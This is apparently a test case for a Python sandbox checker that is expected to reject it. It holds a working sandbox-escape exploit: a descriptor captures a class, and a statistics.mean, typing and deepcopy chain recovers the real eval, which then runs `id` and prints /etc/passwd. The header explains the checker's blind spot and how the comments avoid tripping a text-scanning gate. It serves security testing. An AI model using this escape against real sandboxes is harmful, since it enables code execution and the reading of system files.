# expect: reject class_value
# line: 62
# why: round 29c ok_09: a descriptor's __get__ receives the owner class on 'Ratio.probe': __get__ (and __subclasscheck__, __subclasshook__, __instancecheck__) named makes the program one that may hold a class as a value
# ok_09 -- goal 1 (full escape: runs `id`, prints /etc/passwd); on the way goal 2:
#          typing._GenericAlias, then the REAL builtins eval (with the real
#          __import__ and open).
#
# Mechanism: round 29b ok_03's statistics/_GenericAlias/deepcopy chain, with
#   another way to hold the program's class Ratio as a value: a DESCRIPTOR.
#   Reading `Ratio.probe` where the class body holds `probe = Desc()` runs
#   Desc.__get__(desc, None, Ratio): the owner parameter is the class.  __get__
#   raises it (LookupError(owner)) and `e.args[0]` is Ratio.  (An instance read
#   `Ratio().probe` hands the owner just the same.)
#
# Why the checker missed it: analyzer/stores.c classes_as_values() decides
#   whether "the program may hold a class of its own as a value" by the hook
#   names the interpreter hands a class to (its handed[] list: the builtin
#   that gives an object's class, the class cell, the subclass and set-name
#   hooks, the class-getitem hook, the constructor and prepare hooks, the mro
#   names, metaclass=, and classmethod).  The descriptor getter is missing,
#   although its third parameter is the owner class (rules/README.md names it:
#   "a descriptor's owner ... is any class holding it", applied to library
#   bases only).  `Ratio.probe` is an attribute read, which class_value_use()
#   skips, so classes_held() answers no and statistics_conversions() lets
#   statistics.mean stand.  (This header avoids spelling those hook names:
#   wk_text_has() searches comments too, and naming one here flips the gate.)
import copy
import statistics
import typing


class Odd(int):
    def as_integer_ratio(self):
        raise ValueError("no ratio")

    def is_finite(self):
        return False

    def __radd__(self, other):
        return self

    def __truediv__(self, other):
        return typing.List[int]


class Desc:
    def __get__(self, obj, owner):
        raise LookupError(owner)


class Ratio:
    numerator = 1
    denominator = 1
    probe = Desc()


try:
    print(Ratio.probe)
except LookupError as e:
    got = e.args[0]
print("got:", got)
maker = statistics.mean([Odd(1), got])
print("statistics.mean handed back:", maker)
alias = maker(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print("copy.deepcopy handed back:", ev)
ev("print(__import__('os').popen('id').read())")
ev("print(__import__('builtins').open('/etc/passwd').read())")
